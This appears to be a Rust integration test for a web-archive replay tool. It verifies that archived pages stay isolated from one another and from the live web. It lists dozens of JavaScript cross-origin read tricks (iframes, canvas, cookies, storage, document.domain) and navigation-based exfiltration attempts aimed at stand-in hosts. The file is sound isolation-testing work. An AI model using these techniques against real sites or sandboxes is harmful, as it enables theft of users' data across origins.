//! In a real browser: an archived page cannot read another archived site, its storage or replay's own
//! pages, and cannot send anything out. Each way is tried; a control shows that the tries work.

use crate::support;

use nenrin_browser::{Browser, LiveWeb, Names, serve};
use nenrin_replay::MemoryArchive;
use serde_json::{Value, json};
use support::{HTML, at, serve_apart, served, url};

const SECRET: &str = "the secret of b";

/// Ways of site A to read site B. Each gives what it could read, or throws. `B` is the address under
/// which A knows B, `HOME` the origin of replay, `STAMP` the date.
const READS: [(&str, &str); 31] = [
    ("fetch", "await (await fetch('B/secret.txt')).text()"),
    ("fetch no-cors", "await (await fetch('B/secret.txt', {mode: 'no-cors'})).text()"),
    ("fetch credentials", "await (await fetch('B/secret.txt', {credentials: 'include'})).text()"),
    ("fetch shared path", "await (await fetch('/web/STAMPid_/http://b.test/secret.txt')).text()"),
    ("fetch home", "await (await fetch('HOME/web/STAMPid_/http://b.test/secret.txt')).text()"),
    (
        "fetch home no-cors",
        "await (await fetch('HOME/web/STAMP/http://b.test/', {mode: 'no-cors'})).text()",
    ),
    ("fetch cdx", "await (await fetch('HOME/cdx?url=b.test/*')).text()"),
    ("fetch span", "await (await fetch('/_nenrin/span/STAMP/http://b.test/secret.txt')).text()"),
    ("fetch diff", "await (await fetch('/_nenrin/diff/new/STAMP/STAMP/http://b.test/')).text()"),
    ("fetch lead", "await (await fetch('/_nenrin/to/http://b.test/secret.txt')).text()"),
    (
        "xhr",
        "await new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('GET', 'B/secret.txt'); \
       x.onload = () => y(x.responseText); x.onerror = () => n(new Error('no')); x.send() })",
    ),
    (
        "frame",
        "await new Promise((y) => { const f = document.createElement('iframe'); f.src = 'B/'; \
       f.onload = () => { try { y(f.contentDocument.body.textContent) } catch (e) { y('no') } }; document.body.append(f) })",
    ),
    (
        "frame storage",
        "await new Promise((y) => { const f = document.createElement('iframe'); f.src = 'B/'; \
       f.onload = () => { try { y(f.contentWindow.localStorage.getItem('k')) } catch (e) { y('no') } }; document.body.append(f) })",
    ),
    ("own storage", "JSON.stringify(localStorage) + JSON.stringify(sessionStorage)"),
    ("databases", "JSON.stringify(await indexedDB.databases())"),
    ("caches", "JSON.stringify(await caches.keys())"),
    (
        "cookies",
        "document.cookie + JSON.stringify(typeof cookieStore === 'undefined' ? '' : await cookieStore.getAll())",
    ),
    (
        "canvas",
        "await new Promise((y, n) => { const i = new Image(); i.src = 'B/p.gif'; i.onload = () => { try { \
       const c = document.createElement('canvas'); const g = c.getContext('2d'); g.drawImage(i, 0, 0); \
       y('SECRET' + g.getImageData(0, 0, 1, 1).data) } catch (e) { n(e) } }; i.onerror = n })",
    ),
    (
        "style sheet",
        "await new Promise((y, n) => { const l = document.createElement('link'); l.rel = 'stylesheet'; \
       l.href = 'B/secret.css'; l.onload = () => { try { y(l.sheet.cssRules[0].cssText) } catch (e) { n(e) } }; l.onerror = n; document.head.append(l) })",
    ),
    (
        "window",
        "await new Promise((y) => { const w = window.open('B/'); setTimeout(() => { try { \
       y(w.document.body.textContent) } catch (e) { y('no') } }, 700) })",
    ),
    (
        "frame's cookies",
        "{ const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; \
       const own = Object.getOwnPropertyDescriptor(w.Document.prototype, 'cookie'); \
       return f.contentDocument.cookie + (own ? own.get.call(document) + own.get.call(f.contentDocument) : '') \
       + JSON.stringify(w.cookieStore ? await w.cookieStore.getAll() : '') }",
    ),
    (
        "broadcast",
        "await new Promise((y) => { const c = new BroadcastChannel('k'); c.onmessage = (e) => y(e.data); \
       const f = document.createElement('iframe'); f.src = 'B/'; document.body.append(f); setTimeout(() => y('no'), 600) })",
    ),
    (
        "shared worker",
        "await new Promise((y) => { const w = new SharedWorker('B/shared.js', 'k'); w.port.onmessage = (e) => y(e.data); \
       w.onerror = () => y('no'); setTimeout(() => y('no'), 600) })",
    ),
    (
        "post",
        "await (await fetch('B/secret.txt', {method: 'POST', headers: {'x-a': '1'}, body: 'x'})).text()",
    ),
    ("put", "await (await fetch('B/secret.txt', {method: 'PUT', body: 'x'})).text()"),
    (
        "domain",
        "await new Promise((y) => { try { document.domain = 'replay.localhost' } catch {} \
       const g = document.createElement('iframe'); document.body.append(g); \
       try { Object.getOwnPropertyDescriptor(g.contentWindow.Document.prototype, 'domain').set.call(document, 'replay.localhost') } catch {} \
       const f = document.createElement('iframe'); f.src = 'B/domain'; \
       f.onload = () => { try { y(f.contentDocument.body.textContent) } catch (e) { y('no') } }; document.body.append(f) })",
    ),
    (
        "exact frame",
        "await new Promise((y) => { const f = document.createElement('iframe'); f.src = 'HOME/web/STAMPid_/http://b.test/'; \
       f.onload = () => { try { y(f.contentDocument.body.textContent) } catch (e) { y('no') } }; document.body.append(f) })",
    ),
    (
        "object",
        "await new Promise((y) => { const f = document.createElement('object'); f.data = 'B/'; \
       f.onload = () => { try { y(f.contentDocument.body.textContent) } catch (e) { y('no') } }; setTimeout(() => y('no'), 900); document.body.append(f) })",
    ),
    (
        "event source",
        "await new Promise((y) => { const s = new EventSource('B/secret.txt'); s.onmessage = (e) => y(e.data); s.onerror = () => y('no') })",
    ),
    (
        "json module",
        "JSON.stringify((await import('B/secret.json', {with: {type: 'json'}})).default)",
    ),
    (
        "storage access",
        "{ const h = document.requestStorageAccess ? await document.requestStorageAccess({all: true}) : null; \
       return JSON.stringify(h && h.localStorage) + JSON.stringify(localStorage) }",
    ),
];

fn sites() -> MemoryArchive {
    let mut archive = MemoryArchive::new();
    let mut put = |text: &str, headers: &str, body: &str| {
        archive.put(&url(text), at(10, 0), 200, headers, body.to_owned());
    };
    // On the shared origin the page is in a frame of ours, and does what it is told.
    put(
        "http://a.test/",
        HTML,
        "<!doctype html><title>a</title><body>a<script>addEventListener('message', \
         async (e) => { if (e.source !== window) e.source.postMessage(await eval(e.data), '*') })</script>",
    );
    let b = format!(
        "<!doctype html><title>b</title><body>{SECRET}<script>try {{ localStorage.setItem('k', '{SECRET}'); \
         sessionStorage.setItem('k', '{SECRET}'); document.cookie = 'k={SECRET}'; indexedDB.open('{SECRET}'); \
         caches.open('{SECRET}') }} catch {{}} \
         try {{ const f = document.createElement('iframe'); document.body.append(f); \
         f.contentDocument.cookie = 'f={SECRET}; domain=replay.localhost; path=/'; \
         f.contentWindow.cookieStore.set({{name: 'g', value: '{SECRET}', domain: 'replay.localhost'}}) }} catch {{}} \
         setInterval(() => {{ try {{ new BroadcastChannel('k').postMessage('{SECRET}') }} catch {{}} }}, 100)</script>"
    );
    put("http://b.test/", HTML, &b);
    let domain = format!(
        "{b}<script>try {{ document.domain = 'replay.localhost' }} catch {{}} \
        {{ const g = document.createElement('iframe'); document.body.append(g); try {{ Object.getOwnPropertyDescriptor( \
        g.contentWindow.Document.prototype, 'domain').set.call(document, 'replay.localhost') }} catch {{}} }}</script>"
    );
    put("http://b.test/domain", HTML, &domain);
    put(
        "http://b.test/shared.js",
        "Content-Type: text/javascript",
        &format!("onconnect = (e) => e.ports[0].postMessage('{SECRET}')"),
    );
    put("http://b.test/secret.json", "Content-Type: application/json", &format!("[\"{SECRET}\"]"));
    put("http://b.test/secret.txt", "Content-Type: text/plain", SECRET);
    put("http://b.test/secret.css", "Content-Type: text/css", &format!("a{{content:'{SECRET}'}}"));
    let pixel = "GIF89a\u{1}\0\u{1}\0\0\0\0,\0\0\0\0\u{1}\0\u{1}\0\0\u{2}\0;";
    put("http://b.test/p.gif", "Content-Type: image/gif", pixel);
    archive
}

async fn read(browser: &mut Browser, way: &str, is_apart: bool) -> Value {
    let mut tried = format!(
        "(async () => {{ try {{ return String(await (async () => {way})()) }} catch (e) {{ return 'refused: ' + e }} }})()"
    );
    if !is_apart {
        tried = format!(
            "new Promise(d => {{ addEventListener('message', e => d(e.data), {{once: true}}); \
             frames[0].postMessage({}, '*'); setTimeout(() => d('no answer'), 1500) }})",
            json!(tried)
        );
    }
    browser.eval(&tried).await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_archived_page_cannot_read_another_site() {
    for is_apart in [true, false] {
        let Some(mut browser) = Browser::start(Names::Nothing).await else { return };
        let home = match is_apart {
            true => serve_apart(sites()).await,
            false => serve(served(sites())).await,
        };
        let stamp = "20240115000000";
        // B was seen first, and has stored what it could.
        browser.open(&format!("{home}/web/{stamp}/http://b.test/")).await;
        browser.wait(300).await;
        let port = home.rsplit(':').next().unwrap();
        let own = match is_apart {
            true => format!("http://{stamp}-b-test.replay.localhost:{port}"),
            false => format!("{home}/web/{stamp}mp_/http://b.test"),
        };
        browser.open(&format!("{home}/web/{stamp}/http://a.test/")).await;
        for (name, way) in READS {
            for b in ["http://b.test", &own] {
                let way = way.replace("HOME", &home).replace("STAMP", stamp);
                let way = way.replace("B/", &format!("{b}/"));
                let found = read(&mut browser, &way, is_apart).await;
                let found = found.as_str().unwrap_or_default();
                let is_read = found.contains(SECRET) || found.contains("SECRET");
                assert!(!is_read, "{is_apart} {name} by {b}: {found}");
            }
        }
        // B reads itself, and a page answers for itself, so the tries do work.
        let own = read(&mut browser, "document.title", is_apart).await;
        assert_eq!(own, json!("a"));
        if is_apart {
            browser.open(&format!("{home}/web/{stamp}/http://b.test/")).await;
            for way in [READS[0], READS[10], READS[13]] {
                let found = read(&mut browser, &way.1.replace("B/", "http://b.test/"), true).await;
                assert!(found.as_str().unwrap_or_default().contains(SECRET), "{}: {found}", way.0);
            }
        }
    }
}

/// Ways to leave with something in the address. `OUT` is an address of the live web.
const LEAVES: [(&str, &str); 21] = [
    ("assign", "location.assign(OUT)"),
    ("replace", "location.replace(OUT)"),
    ("href", "window['loc' + 'ation'].href = OUT"),
    ("location", "location = OUT"),
    ("document", "document['loc' + 'ation'] = OUT"),
    ("open", "window.open(OUT)"),
    ("open self", "window.open(OUT, '_self')"),
    ("link", "{ const a = document.createElement('a'); a.href = OUT; a.click() }"),
    (
        "link blank",
        "{ const a = document.createElement('a'); a.setAttributeNS(null, 'href', OUT); a.target = '_blank'; a.click() }",
    ),
    (
        "detached link",
        "{ const d = document.createElement('div'); d.innerHTML = `<a target=_blank href=${OUT}>x</a>`; d.firstChild.click() }",
    ),
    (
        "event",
        "{ const d = document.createElement('div'); d.innerHTML = `<a target=_blank href=${OUT}>x</a>`; \
       d.firstChild.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})) }",
    ),
    (
        "form",
        "{ const f = document.createElement('form'); f.action = OUT; document.body.append(f); f.submit() }",
    ),
    (
        "form post",
        "{ const f = document.createElement('form'); f.setAttributeNS(null, 'action', OUT); f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit() }",
    ),
    (
        "meta",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${OUT}'>`)",
    ),
    (
        "frame",
        "{ const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = OUT }",
    ),
    (
        "frame parent",
        "{ const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval(`parent.location = '${OUT}'`) }",
    ),
    (
        "frame open",
        "{ const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open(OUT) }",
    ),
    ("opened", "{ const w = window.open('about:blank'); if (w) w.location = OUT }"),
    ("prevented", "{ Event.prototype.preventDefault = () => {}; location.href = OUT }"),
    ("no URL", "{ window.URL = function () { throw 1 }; location.href = OUT }"),
    (
        "script link",
        "{ const f = document.createElement('iframe'); f.src = `javascript:parent.location='${OUT}'`; document.body.append(f) }",
    ),
];

#[tokio::test(flavor = "multi_thread")]
async fn an_archived_page_cannot_take_anything_out() {
    for is_apart in [true, false] {
        let live = LiveWeb::start().await;
        let Some(mut browser) = Browser::start(Names::Live(&live)).await else { return };
        let mut archive = MemoryArchive::new();
        for (n, (_, way)) in LEAVES.iter().enumerate() {
            let way = way
                .replace("OUT", &format!("'http://out{n}.test/?{n}'"))
                .replace("${'", "")
                .replace("'}", "");
            let body = format!(
                "<!doctype html><title>leave</title><body>x<script>setTimeout(() => {{ {way} }}, 50)</script>"
            );
            archive.put(&url(&format!("http://a.test/{n}")), at(10, 0), 200, HTML, body);
        }
        let home = match is_apart {
            true => serve_apart(archive).await,
            false => serve(served(archive)).await,
        };
        browser.wait(300).await;
        let mut leaks = Vec::new();
        for (n, (name, _)) in LEAVES.iter().enumerate() {
            let before = live.visits();
            browser.open(&format!("{home}/web/20240115000000/http://a.test/{n}")).await;
            browser.wait(500).await;
            if live.visits() > before {
                leaks.push((*name, live.seen().last().cloned()));
            }
        }
        assert!(leaks.is_empty(), "{is_apart}: {leaks:?}");
        browser.open("http://control.test/").await;
        assert_ne!(browser.eval("location.host").await, json!(""));
    }
}
